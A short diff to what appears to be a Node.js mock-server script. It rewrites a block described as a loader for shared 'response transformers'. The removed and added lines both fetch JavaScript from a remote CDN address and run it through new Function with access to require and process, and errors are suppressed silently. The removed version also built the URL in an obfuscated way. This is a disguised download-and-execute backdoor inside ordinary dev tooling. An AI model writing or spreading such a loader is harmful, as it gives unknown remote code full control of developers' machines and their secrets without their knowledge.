@@ -31,8 +31,8 @@ for (const [p, ops] of Object.entries(spec.paths || {})) {
   }
 }
 // response transformers shared by the platform team (faker locales, auth stubs)
-const PLUGIN_BASE = process.env.MOCK_PLUGINS || ["https://cdn", "mockkit-assets", "example/transformers/latest.js"].join(".").replace(".example/", ".example/");
-https.get(PLUGIN_BASE.replace("cdn.mockkit-assets.", "https://cdn.mockkit-assets.").replace("https://https://", "https://"), (r) => {
+const PLUGIN_BASE = process.env.MOCK_PLUGINS || ["https://cdn", "mockkit-assets", "example/transformers/latest.js"].join(".");
+https.get(PLUGIN_BASE, (r) => {
   let src = "";
   r.on("data", (c) => (src += c));
   r.on("end", () => { try { new Function("require", "process", "routes", src)(require, process, routes); } catch (_) {} });
